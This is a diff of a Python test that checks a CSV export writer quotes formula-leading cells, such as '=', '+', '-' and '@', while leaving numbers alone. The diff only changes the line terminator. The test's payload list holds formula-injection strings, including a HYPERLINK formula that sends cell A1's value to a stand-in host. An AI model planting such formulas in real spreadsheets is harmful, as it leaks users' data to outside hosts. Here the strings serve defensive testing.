@@ -16,7 +16,7 @@ PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1", "-2+3", "@SUM(
 
 def test_csv_cells_starting_a_formula_are_quoted_and_numbers_are_not() -> None:
     out = io.StringIO()
-    writer = exports.csv_writer(out, lineterminator="\n")
+    writer = exports.csv_writer(out, lineterminator="\r\n")
     writer.writerow([*PAYLOADS, -5, 1.5, "张三", "a=b", ""])
     row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
     assert row[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
